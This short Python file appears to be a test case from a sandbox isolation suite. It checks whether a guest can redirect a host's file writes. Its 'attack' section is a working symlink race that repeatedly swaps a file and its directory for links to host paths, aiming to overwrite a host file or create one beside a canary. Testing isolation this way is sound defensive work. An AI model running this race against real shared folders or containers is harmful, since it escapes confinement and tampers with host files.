"""Puts links where the host writes, so that it writes to or replaces a host file.

Escape: a canary file changes, or a file appears beside it
Control: a file that the host writes can be replaced by the guest
Expect: none
"""

# control
import os

os.makedirs("inbox", exist_ok=True)
open("inbox/order.txt", "w").write("mine") == 4

# attack
import time

end = time.monotonic() + 1.5
done = 0
while (now := time.monotonic()) < end or (done <= 10 and now < end + 6):
    try:
        os.unlink("inbox/order.txt")
    except OSError:
        pass
    try:
        os.symlink(places["open_file"], "inbox/order.txt")
        os.rename("inbox", "aside")
        os.symlink(places["canary_dir"], "inbox")
        done += 1
        os.unlink("inbox")
        os.rename("aside", "inbox")
    except OSError:
        if os.path.islink("inbox"):
            os.unlink("inbox")
        os.makedirs("inbox", exist_ok=True)
assert done > 10, done
